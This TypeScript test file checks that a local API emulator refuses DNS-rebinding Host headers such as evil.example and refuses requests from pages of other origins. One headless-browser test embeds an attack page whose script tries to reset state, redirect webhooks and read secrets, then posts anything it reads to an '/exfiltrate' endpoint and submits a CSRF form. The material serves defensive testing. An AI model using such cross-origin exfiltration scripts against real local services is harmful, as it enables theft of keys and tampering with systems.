// The emulator answers only its own names and no web page (docs/emulator.md, "Who it
// answers"), and "loopback" is an address, never a prefix of a name. Requests are sent with
// the Host and Origin a browser would send: a rebound DNS name (Host evil.example:PORT), a
// page of another origin; and a real browser runs such a page.
import { mkdtempSync } from 'node:fs';
import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import { connect, createServer as createNetServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { isLoopbackHost } from '../../src/lib/client/url.js';
import { startEmulator, type RunningEmulator } from '../../src/emulator/index.js';
import { browser, CHROMIUM } from '../helpers/chromium.js';
import { runMain } from '../helpers/main.js';
import { directBody, idemKey, KEY } from './helpers.js';

type Answer = { status: number; headers: IncomingHttpHeaders; text: string };

/** One request with exactly these headers (Host and Origin included), on a fresh connection. */
function send(port: number, method: string, path: string, headers: Record<string, string>, body?: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method, path, headers, agent: false }, (res) => {
      let text = '';
      res.setEncoding('utf8').on('data', (d: string) => (text += d));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

const lines: string[] = [];
let emu: RunningEmulator;
let own: string;
beforeAll(async () => {
  emu = await startEmulator({ port: 0, log: (line) => lines.push(line) });
  own = `127.0.0.1:${emu.port}`;
});
afterAll(() => emu.close());
afterEach(() => void lines.splice(0));

/** What a page could change or read: checked through the control plane, addressed as it should be. */
async function snapshot() {
  const get = async (path: string) => (await send(emu.port, 'GET', `/__emulator${path}`, { host: own })).text;
  const health = JSON.parse(await get('/health')).data;
  return { offset: health.clock_offset_ms, faults: await get('/faults'), webhooks: await get('/webhooks'), transactions: emu.summary().transactions };
}

async function createTransaction(): Promise<void> {
  const r = await send(emu.port, 'POST', '/api/v1/partner/transactions', { host: own, 'x-api-key': KEY, 'content-type': 'application/json', 'idempotency-key': idemKey() }, JSON.stringify(directBody()));
  expect(r.status, r.text).toBe(201);
}

function expectRefused(r: Answer, ...unechoed: string[]): void {
  expect(r.status).toBe(403);
  expect(JSON.parse(r.text).error).toMatchObject({ code: 'FORBIDDEN' });
  expect(r.headers.connection).toBe('close');
  for (const text of unechoed) expect(r.text).not.toContain(text);
}

describe('the emulator answers only its own names', () => {
  it('refuses a Host that is not its own (a rebound DNS name) on the API and the control plane: 403 in the envelope, not echoed, nothing changed', async () => {
    await createTransaction();
    const before = await snapshot();
    for (const host of [`evil.example:${emu.port}`, 'evil.example', `127.example.invalid:${emu.port}`, `127.0.0.1:${emu.port + 1}`, `localhost.evil.example:${emu.port}`]) {
      const name = host.startsWith('127.0.0.1') ? host : host.replace(/:\d+$/, '');
      expectRefused(await send(emu.port, 'GET', '/api/v1/partner/transactions', { host, 'x-api-key': KEY }), name);
      expectRefused(await send(emu.port, 'GET', '/__emulator/state', { host }), name);
      expectRefused(await send(emu.port, 'GET', '/__emulator/webhooks', { host }), name, 'whsec');
      expectRefused(await send(emu.port, 'POST', '/__emulator/reset', { host }, ''), name);
      expectRefused(await send(emu.port, 'POST', '/__emulator/clock', { host, 'content-type': 'application/json' }, '{"advance":"31m"}'), name);
      expectRefused(await send(emu.port, 'PUT', '/__emulator/webhooks', { host, 'content-type': 'application/json' }, '{"url":"http://evil.example/"}'), name);
    }
    expect(await snapshot()).toEqual(before);
    expect(before.transactions).toBeGreaterThan(0);
    // The operator sees each refusal, as any request: method, path, status.
    expect(lines.some((l) => /^POST \/__emulator\/reset 403 /.test(l))).toBe(true);
  });

  it('refuses before reading a body: a huge announced one is answered at once', async () => {
    const answer = await new Promise<Answer>((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port: emu.port, method: 'PUT', path: '/__emulator/state', headers: { host: 'evil.example', 'content-length': String(400 * 1024 * 1024) }, agent: false }, (res) => {
        let text = '';
        res.setEncoding('utf8').on('data', (d: string) => (text += d));
        res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, text }));
      });
      req.on('error', reject);
      req.write('x'.repeat(1024));
    });
    expectRefused(answer, 'evil');
  });

  it('answers 127.0.0.1, [::1] and localhost at its own port', async () => {
    for (const host of [own, `[::1]:${emu.port}`, `localhost:${emu.port}`, `LOCALHOST:${emu.port}`]) {
      expect((await send(emu.port, 'GET', '/__emulator/health', { host })).status, host).toBe(200);
      expect((await send(emu.port, 'GET', '/api/v1/partner/transactions', { host, 'x-api-key': KEY })).status, host).toBe(200);
    }
  });

  it('answers a name the operator allowed at any port (a Docker port map, a CI service alias), and no other', async () => {
    const aliased = await startEmulator({ port: 0, allowedHosts: ['emulator', 'Offramp.Test', '::1'] });
    try {
      for (const host of ['emulator:4010', 'emulator', 'offramp.test:8080', '[::1]:1']) {
        expect((await send(aliased.port, 'GET', '/api/v1/partner/transactions', { host, 'x-api-key': KEY })).status, host).toBe(200);
      }
      expectRefused(await send(aliased.port, 'GET', '/__emulator/health', { host: `emulator.evil.example:${aliased.port}` }), 'evil');
      expectRefused(await send(aliased.port, 'GET', '/__emulator/health', { host: `127.0.0.1:${aliased.port + 1}` }));
    } finally {
      await aliased.close();
    }
    await expect(startEmulator({ port: 0, allowedHosts: ['emulator:4010'] })).rejects.toThrow(/allowedHosts: "emulator:4010" is not a host name alone/);
    await expect(startEmulator({ port: 0, allowedHosts: ['a/b'] })).rejects.toThrow(RangeError);
  });

  it('refuses any Origin but its own: no web page drives it', async () => {
    const before = await snapshot();
    for (const origin of [`http://127.0.0.1:${emu.port + 1}`, 'null', 'http://evil.example', `https://${own}`]) {
      expectRefused(await send(emu.port, 'POST', '/__emulator/reset', { host: own, origin, 'content-type': 'text/plain' }, ''), 'evil', 'null');
      expectRefused(await send(emu.port, 'GET', '/api/v1/partner/transactions', { host: own, origin, 'x-api-key': KEY }), 'evil');
    }
    expect(await snapshot()).toEqual(before);
    expect((await send(emu.port, 'GET', '/__emulator/health', { host: own, origin: `http://${own}` })).status).toBe(200);
  });

  it('behind a port forward (kubectl port-forward, socat) the CLI is refused until the name is allowed, and told how (exit 3)', async () => {
    const door = createNetServer((client) => {
      const upstream = connect(emu.port, '127.0.0.1');
      client.pipe(upstream).pipe(client);
      client.on('error', () => upstream.destroy());
      upstream.on('error', () => client.destroy());
    });
    await new Promise<void>((r) => door.listen(0, '127.0.0.1', r));
    try {
      const base = `http://127.0.0.1:${(door.address() as AddressInfo).port}/api/v1/partner`;
      const r = await runMain(['emulator', 'wait', '--timeout', '5000', '--base-url', base]);
      expect(r.code).toBe(3);
      expect(r.stderr).toContain(`error: FORBIDDEN: the emulator answers requests addressed to 127.0.0.1:${emu.port}`);
      expect(r.stderr).toContain('hint: start the emulator with --allow-host 127.0.0.1, the name this run used');
    } finally {
      await new Promise((r) => door.close(r));
    }
  });

  it('the CLI flags: --allow-host (repeatable) and OFFRAMP_EMULATOR_ALLOWED_HOSTS add names; a name with a port is refused (exit 2)', async () => {
    const bad = await runMain(['emulator', '--port', '0', '--allow-host', 'emulator:4010']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--allow-host \/ OFFRAMP_EMULATOR_ALLOWED_HOSTS: "emulator:4010" is not a host name/);
    const badEnv = await runMain(['emulator', '--port', '0'], { env: { OFFRAMP_EMULATOR_ALLOWED_HOSTS: 'ci, http://x/' } });
    expect(badEnv.code).toBe(2);
    expect(badEnv.stderr).toContain('"http://x/" is not a host name');
  });
});

describe('in a real browser, a page of another origin', () => {
  let page: Server;
  const exfiltrated: string[] = [];
  afterAll(() => new Promise((r) => page?.close(r)));

  if (!CHROMIUM) it.skip('needs Debian’s chromium (apt-get install -y chromium)', () => undefined);

  it.skipIf(!CHROMIUM)('cannot reset it, move its clock, add faults, point its webhooks, post a form, or read its state', { timeout: 90_000 }, async () => {
    await createTransaction();
    const before = await snapshot();
    const target = `http://${own}`;
    const html = `<!doctype html><meta charset="utf-8"><title>neighbour</title>
<iframe name="sink"></iframe>
<form id="form" method="POST" action="${target}/__emulator/reset" enctype="text/plain" target="sink"></form>
<pre id="out">running</pre>
<script>
const E = ${JSON.stringify(`${target}/__emulator`)};
const blind = (path, body) => fetch(E + path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body });
const tries = [
  ['reset', () => blind('/reset', '')],
  ['clock', () => blind('/clock', '{"advance":"31m"}')],
  ['faults', () => blind('/faults', '{"route":"GET /transactions","status":500}')],
  ['webhooks', () => fetch(E + '/webhooks', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{"url":"' + location.origin + '/stolen"}' })],
  ['state', () => fetch(E + '/state').then((r) => r.text())],
  ['secret', () => fetch(E + '/webhooks').then((r) => r.text())],
  ['api', () => fetch(${JSON.stringify(`${target}/api/v1/partner/transactions`)}, { headers: { 'x-api-key': ${JSON.stringify(KEY)} } }).then((r) => r.text())],
];
(async () => {
  const out = [];
  for (const [name, go] of tries) {
    try {
      const got = await go();
      if (typeof got === 'string') await fetch('/exfiltrate', { method: 'POST', body: name + ' ' + got });
      out.push(name + ' ' + (typeof got === 'string' ? 'read' : got.type));
    } catch (e) {
      out.push(name + ' refused');
    }
  }
  document.querySelector('iframe').onload = () => { out.push('form posted'); document.getElementById('out').textContent = out.join(';'); };
  document.getElementById('form').submit();
})();
</script>`;
    page = createServer((req, res) => {
      let body = '';
      req.setEncoding('utf8').on('data', (d: string) => (body += d));
      req.on('end', () => {
        if (req.url === '/exfiltrate') exfiltrated.push(body);
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html);
      });
    });
    await new Promise<void>((r) => page.listen(0, '127.0.0.1', r));
    const dir = mkdtempSync(join(tmpdir(), 'offramp-neighbour-'));
    const { stdout } = await browser(dir, ['--virtual-time-budget=10000', '--dump-dom', `http://127.0.0.1:${(page.address() as AddressInfo).port}/`]);

    // The page ran to its end: every attempt made, the form posted.
    expect(/<pre id="out">([^<]*)<\/pre>/.exec(stdout)?.[1]).toBe('reset opaque;clock opaque;faults opaque;webhooks refused;state refused;secret refused;api refused;form posted');
    expect(exfiltrated).toEqual([]);
    expect(await snapshot()).toEqual(before);
    // Each reached the emulator, and was refused there (a preflight too): not merely unread.
    for (const line of ['POST /__emulator/reset 403', 'POST /__emulator/clock 403', 'POST /__emulator/faults 403', 'OPTIONS /__emulator/webhooks 403', 'GET /__emulator/state 403', 'OPTIONS /api/v1/partner/transactions 403']) {
      expect(lines.some((l) => l.startsWith(line)), `${line} in\n${lines.join('\n')}`).toBe(true);
    }
    expect(lines.filter((l) => l.startsWith('POST /__emulator/reset 403'))).toHaveLength(2);
  });
});

describe('loopback is an address, not a prefix', () => {
  it('is 127.0.0.0/8, ::1 (IPv4-mapped too) or exactly localhost', () => {
    for (const host of ['127.0.0.1', '127.255.3.4', '::1', '[::1]', '::ffff:127.0.0.1', '[::ffff:7f00:1]', 'localhost', 'LocalHost']) expect(isLoopbackHost(host), host).toBe(true);
    for (const host of ['127.example.invalid', '127.0.0.1.nip.io', 'localhost.example', 'localhost.', '128.0.0.1', '0.0.0.0', '::', '::ffff:10.0.0.1', '', undefined]) expect(isLoopbackHost(host), host).toBe(false);
  });

  it('a name that starts with 127. is another machine: --base-url keeps the key off plain http, --forward-to and emulator --host refuse it (exit 2)', async () => {
    const baseUrl = await runMain(['tx', 'list', '--base-url', 'http://127.example.invalid:4010/api/v1/partner'], { env: { OFFRAMP_API_KEY: 'sk_test_secret_1234' } });
    expect(baseUrl.code).toBe(2);
    expect(baseUrl.stderr).toContain('base URL http://127.example.invalid:4010/api/v1/partner is plain http: the API key would cross the network in clear');
    const forward = await runMain(['webhooks', 'listen', '--port', '0', '--forward-to', 'http://127.example.invalid/hooks']);
    expect(forward.code).toBe(2);
    expect(forward.stderr).toContain('--forward-to http://127.example.invalid/hooks is plain http to another machine');
    const host = await runMain(['emulator', '--port', '0', '--host', '127.example.invalid']);
    expect(host.code).toBe(2);
    expect(host.stderr).toContain('--host 127.example.invalid is not a loopback address: the control plane then needs --admin-token');
    await expect(startEmulator({ port: 0, host: '127.example.invalid' })).rejects.toThrow(/host 127\.example\.invalid is not a loopback address: the control plane then needs adminToken/);
  });
});
